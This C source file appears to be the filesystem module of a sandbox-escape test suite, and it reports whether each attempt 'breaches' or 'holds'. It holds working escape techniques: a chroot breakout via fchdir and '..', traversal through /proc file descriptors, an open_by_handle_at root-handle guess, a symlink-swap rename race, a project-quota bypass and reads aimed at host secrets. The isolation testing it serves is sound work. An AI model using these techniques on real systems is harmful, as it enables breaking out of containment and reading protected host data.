/* The host's files: through paths, descriptors, handles, and files of the kernel that name them. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int open_read(int argc, char **argv) { return argc > 1 ? unopened(argv[1], O_RDONLY) : 2; }
static int open_write(int argc, char **argv) { return argc > 1 ? unopened(argv[1], O_WRONLY) : 2; }

/* For files that anybody may open and only some may write: writes back what it says. */
static int write_back(int argc, char **argv) {
  if (argc < 2) return 2;
  char text[256];
  int file = open(argv[1], O_RDWR | O_CLOEXEC);
  ssize_t got = file < 0 ? -1 : read(file, text, sizeof text);
  if (got <= 0) return held("%s: %s", argv[1], strerror(errno));
  if (pwrite(file, text, (size_t)got, 0) > 0) return breach("wrote %s", argv[1]);
  return held("%s: %s", argv[1], strerror(errno));
}

/* Prints what it can read of each file; the test looks for its secrets in the output. */
static int read_files(int argc, char **argv) {
  for (int index = 1; index < argc; index++) {
    int descriptor = open(argv[index], O_RDONLY | O_NONBLOCK | O_NOCTTY);
    if (descriptor < 0) continue;
    char text[65536];
    ssize_t got = read(descriptor, text, sizeof text);
    if (got > 0) fwrite(text, 1, (size_t)got, stdout);
    putchar('\n');
    close(descriptor);
  }
  return held("read what there was");
}

/* mkdir, chroot into it while the working directory stays outside, climb. */
static int chroot_escape(int argc, char **argv) {
  if (argc < 2) return 2;
  mkdir("/escape", 0700);
  int top = open("/", O_RDONLY | O_DIRECTORY);
  if (top < 0 || chroot("/escape") != 0) return held("chroot: %s", strerror(errno));
  if (fchdir(top) != 0) return held("fchdir: %s", strerror(errno));
  for (int step = 0; step < 256; step++) {
    if (chdir("..") != 0) break;
  }
  if (chroot(".") != 0) return held("second chroot: %s", strerror(errno));
  return unopened(argv[1], O_RDONLY);
}

/* A descriptor above 2 at the start of a command was somebody's who did not close it. */
static int leaked_descriptors(int argc, char **argv) {
  (void)argc, (void)argv;
  for (int descriptor = 3; descriptor < 4096; descriptor++) {
    if (fcntl(descriptor, F_GETFD) >= 0) {
      char link[64];
      char target[PATH_MAX] = "";
      snprintf(link, sizeof link, "/proc/self/fd/%d", descriptor);
      if (readlink(link, target, sizeof target - 1) < 0) target[0] = '\0';
      return breach("descriptor %d is open: %s", descriptor, target);
    }
  }
  return held("no descriptor above 2");
}

/* A directory of the host among the open descriptors of any process here is a way out: `openat(fd, "..")`. */
static int foreign_directories(int argc, char **argv) {
  if (argc < 2) return 2;
  DIR *processes = opendir("/proc");
  if (processes == NULL) return untried("no /proc");
  for (struct dirent *process = readdir(processes); process != NULL; process = readdir(processes)) {
    if (process->d_name[0] < '0' || process->d_name[0] > '9') continue;
    for (int descriptor = -2; descriptor < 256; descriptor++) {
      char path[PATH_MAX];
      if (descriptor == -2) snprintf(path, sizeof path, "/proc/%.32s/cwd%s", process->d_name, argv[1]);
      else if (descriptor == -1) snprintf(path, sizeof path, "/proc/%.32s/root%s", process->d_name, argv[1]);
      else snprintf(path, sizeof path, "/proc/%.32s/fd/%d/..%s", process->d_name, descriptor, argv[1]);
      int opened = open(path, O_RDONLY | O_NONBLOCK);
      if (opened >= 0) {
        closedir(processes);
        return breach("opened %s", path);
      }
    }
  }
  closedir(processes);
  return held("no descriptor leads out");
}

/* The handle of inode 2 is the root of most file systems, whatever is mounted where. */
static int file_handle(int argc, char **argv) {
  (void)argc, (void)argv;
  struct {
    struct file_handle handle;
    unsigned char bytes[128];
  } wanted = {.handle = {.handle_bytes = 128}};
  int mount = 0;
  if (name_to_handle_at(AT_FDCWD, "/", &wanted.handle, &mount, 0) != 0) {
    /* overlayfs gives none; then the handle of ext4's root is guessed. */
    wanted.handle.handle_bytes = 8;
    wanted.handle.handle_type = 1;
    memset(wanted.handle.f_handle, 0, 8);
    wanted.handle.f_handle[0] = 2;
  }
  int top = open("/", O_RDONLY | O_DIRECTORY);
  return refused("open_by_handle_at", open_by_handle_at(top, &wanted.handle, O_RDONLY));
}

/* The program of PID 1, reached through /proc: a file that could be overwritten would run again, outside. */
static int overwrite_program(int argc, char **argv) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/exe", argc > 1 ? argv[1] : "1");
  int program = open(path, O_RDONLY);
  if (program < 0) return held("%s: %s", path, strerror(errno));
  int seals = fcntl(program, F_GET_SEALS);
  if (seals >= 0 && (seals & F_SEAL_WRITE) != 0) return held("%s is sealed", path);
  if (access(path, W_OK) != 0) return held("%s: %s", path, strerror(errno));
  return breach("%s is writable once it does not run", path);
}

/* Takes a file out of its quota by giving it another project. */
static int change_project(int argc, char **argv) {
  (void)argc, (void)argv;
  struct {
    uint32_t flags, extent, extents, project, cow;
    unsigned char padding[8];
  } attributes;
  int file = open("project", O_RDWR | O_CREAT | O_CLOEXEC, 0600);
  if (file < 0) return untried("no file here: %s", strerror(errno));
  const unsigned long get = _IOR('X', 31, attributes);
  const unsigned long set = _IOW('X', 32, attributes);
  if (ioctl(file, get, &attributes) != 0) return held("no project attributes: %s", strerror(errno));
  attributes.project ^= 7;
  long result = ioctl(file, set, &attributes);
  unlink("project");
  return result == 0 ? breach("changed the project") : held("project: %s", strerror(errno));
}

/* Swaps a directory for a symbolic link to a path of the host and back, for as long as it is let. */
static int swap_forever(int argc, char **argv) {
  if (argc < 3) return 2;
  mkdir("swap-real", 0700);
  int inner = open("swap-real/file", O_WRONLY | O_CREAT, 0600);
  if (inner >= 0) close(inner);
  if (symlink(argv[1], "swap-link") != 0 && errno != EEXIST) return untried("symlink: %s", strerror(errno));
  /* A first run leaves names as they happened to be; start from the directory. */
  rename("swap-real", "swap");
  long rounds = count_of(argv[2]);
  for (long round = 0; round < rounds; round++) {
    if (syscall(SYS_renameat2, AT_FDCWD, "swap", AT_FDCWD, "swap-link", 2U /* RENAME_EXCHANGE */) != 0) {
      return untried("exchange: %s", strerror(errno));
    }
  }
  return held("swapped %ld times", rounds);
}

const struct attack path_attacks[] = {
    {"open-read", open_read},
    {"open-write", open_write},
    {"write-back", write_back},
    {"read-files", read_files},
    {"chroot-escape", chroot_escape},
    {"leaked-descriptors", leaked_descriptors},
    {"foreign-directories", foreign_directories},
    {"file-handle", file_handle},
    {"overwrite-program", overwrite_program},
    {"change-project", change_project},
    {"swap-forever", swap_forever},
    {0},
};
